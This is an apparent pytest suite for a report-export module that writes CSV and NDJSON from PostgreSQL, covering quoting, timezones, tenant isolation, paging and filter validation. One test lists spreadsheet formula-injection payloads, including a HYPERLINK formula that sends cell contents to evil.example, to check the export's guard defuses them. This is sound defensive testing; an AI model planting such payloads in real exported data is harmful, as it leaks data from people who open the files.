"""Export bytes and filters against real PostgreSQL."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path
from uuid import UUID

import pytest

from consumer.export import HEADER, export_to_file, file_name
from consumer.filters import parse_filters
from shared.db import Pool
from shared.errors import InvalidFilters
from tests.support import seed
from tests.support.reports import FIRE, video


async def run_export(
    pool: Pool,
    org: UUID,
    tmp_path: Path,
    filters: dict[str, object] | None = None,
    tz: str = "UTC",
    page_size: int = 1000,
) -> tuple[str, int]:
    out = tmp_path / "r.csv"
    async with pool.acquire() as conn:
        result = await export_to_file(conn, org, parse_filters(filters or {}), tz, FIRE, out, page_size)
    data = out.read_bytes()
    assert result.size == len(data)
    return data.decode(), result.rows


async def test_csv_bytes_for_tricky_data(pool: Pool, tmp_path: Path) -> None:
    org = await seed.organization(pool)
    await video(
        pool,
        org,
        title='Say "hi", then\nleave 🎉',
        published="2026-11-20T23:30Z",
        stats=(10000, 500, 100, 50),
    )
    await video(pool, org, title=None, published=None, stats=None, campaign_tag=None)
    await video(pool, org, title="Ünïcödé", published="2026-11-21T01:00Z", stats=(None, 0, None, 7))

    text, rows = await run_export(pool, org, tmp_path, tz="America/New_York")
    assert rows == 3
    # "@c" starts like a formula: the guard (on by default) writes it "'@c".
    assert text == HEADER + (
        '"Ünïcödé","https://v.example/1","tiktok","active","A","\'@c","2026-11-20","2026-11-01",,0,,7\n'
        '"Say ""hi"", then\nleave 🎉","https://v.example/1","tiktok","active","A","\'@c","2026-11-20","2026-11-01",'
        "10000,500,100,50\n"
        ',"https://v.example/1","tiktok","active",,"\'@c",,"2026-11-01",,,,\n'
    )
    assert not text.startswith("\ufeff") and "\r" not in text
    # The same instant is a different local date in Tokyo.
    tokyo, _ = await run_export(pool, org, tmp_path, tz="Asia/Tokyo")
    assert '"2026-11-21","2026-11-02",10000' in tokyo


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tcmd",
    "\r=cmd",
]
HARMLESS = ["plain", " =not at the start", "a=b", "", "'quoted already"]


async def test_csv_formula_guard_prefixes_text_cells_that_start_like_a_formula(pool: Pool, tmp_path: Path) -> None:
    org = await seed.organization(pool)
    values = FORMULAS + HARMLESS
    for i, value in enumerate(values):
        # Newest first: the file lists them in this order.
        published = f"2026-11-20T{23 - i:02d}:00Z"
        await video(pool, org, title=value, campaign_tag=value, channel_username="c", published=published)
    await video(pool, org, title=None, campaign_tag=None, published="2026-11-01T00:00Z")
    files = {}
    async with pool.acquire() as conn:
        for name, guard, kind in (("on", True, "csv"), ("off", False, "csv"), ("ndjson", True, "ndjson")):
            files[name] = tmp_path / f"{name}.{kind}"
            await export_to_file(conn, org, parse_filters({}), "UTC", FIRE, files[name], kind=kind, formula_guard=guard)

    def column(name: str, index: int) -> list[str]:
        with files[name].open(newline="", encoding="utf-8") as handle:
            return [row[index] for row in list(csv.reader(handle))[1:]]

    guarded = ["'" + v for v in FORMULAS] + HARMLESS + [""]
    for index in (0, 4):  # title, campaign_tag
        assert column("on", index) == guarded
        assert column("off", index) == [*values, ""]
    # The byte contract: the apostrophe goes inside the quotes; NULL stays an empty field without quotes.
    lines = files["on"].read_bytes().decode().split("\n")
    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",')
    assert lines[-2].startswith(',"https://v.example/1","tiktok","active",,"\'@c",')
    # Numbers and dates are not text: never prefixed. NDJSON is data for programs: untouched.
    assert [line for line in lines[1:-1] if not line.endswith(",1,2,3,4")] == []
    ndjson = [json.loads(line) for line in files["ndjson"].read_text().splitlines()]
    assert [row["title"] for row in ndjson] == [*values, None]


async def test_other_organizations_never_appear_and_pages_cover_everything(pool: Pool, tmp_path: Path) -> None:
    org, other = await seed.organization(pool), await seed.organization(pool)
    await pool.execute(
        "INSERT INTO videos (organization_id, title, published_at) SELECT $1, 'mine ' || g, "
        "now() - g * interval '1 minute' FROM generate_series(1, 2500) g",
        org,
    )
    await pool.execute(
        "INSERT INTO videos (organization_id, title) SELECT $1, 'theirs' FROM generate_series(1, 50)", other
    )
    text, rows = await run_export(pool, org, tmp_path, page_size=1000)
    lines = text.splitlines()[1:]
    assert rows == 2500 == len(lines) == len(set(lines))
    assert "theirs" not in text
    assert lines[0].startswith('"mine 1",') and lines[-1].startswith('"mine 2500",')


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"platforms": ["youtube"]}, {"yt"}),
        ({"platforms": []}, set()),
        ({"statuses": ["archived"]}, {"old"}),
        ({"campaign_tags": ["B"]}, {"yt"}),
        ({"channel_usernames": ["@x"]}, {"old"}),
        ({"search": "NEW"}, {"new one"}),
        ({"published_from": "2026-11-22", "published_to": "2026-11-22"}, {"new one"}),
        ({"period": "last_24_hours"}, {"new one"}),
        ({"period": "previous_day"}, {"new one"}),
        ({"period": "last_7_days"}, {"new one", "yt"}),
        ({"period": "previous_week"}, {"new one", "yt"}),  # Mon 16th - Sun 22nd
        ({"period": "last_30_days"}, {"new one", "yt"}),
        ({"period": "previous_month"}, {"old"}),
        ({"period": "all"}, {"new one", "yt", "old"}),
    ],
)
async def test_every_filter_key(pool: Pool, tmp_path: Path, filters: dict[str, object], expected: set[str]) -> None:
    org = await seed.organization(pool)
    # FIRE is Monday 2026-11-23 06:00Z.
    await video(pool, org, title="new one", published="2026-11-22T10:00Z")
    await video(pool, org, title="yt", platform="youtube", campaign_tag="B", published="2026-11-18T10:00Z")
    await video(pool, org, title="old", status="archived", channel_username="@x", published="2026-10-15T10:00Z")
    text, _ = await run_export(pool, org, tmp_path, filters)
    titles = {line.split('","')[0].strip('"') for line in text.splitlines()[1:]}
    assert titles == expected


@pytest.mark.parametrize(
    ("filters", "field"),
    [
        ({"platform": ["tiktok"]}, "filters.platform"),
        ({"platforms": "tiktok"}, "filters.platforms"),
        ({"platforms": [1]}, "filters.platforms"),
        ({"period": "yesterday"}, "filters.period"),
        ({"published_from": "2026-02-30"}, "filters.published_from"),
        ({"search": 5}, "filters.search"),
    ],
)
def test_bad_filters_fail_closed_naming_the_key(filters: dict[str, object], field: str) -> None:
    with pytest.raises(InvalidFilters) as info:
        parse_filters(filters)
    assert info.value.issues[0].field == field


def test_file_name_uses_local_date_and_clean_slug() -> None:
    assert file_name("Weekly Views!! (EU)", FIRE, "Pacific/Kiritimati") == "weekly-views-eu-2026-11-23.csv"
    assert file_name("x", datetime(2026, 11, 23, 2, 0, tzinfo=UTC), "America/Los_Angeles") == "x-2026-11-22.csv"
    assert file_name("***", FIRE, "UTC", "zip") == "report-2026-11-23.zip"
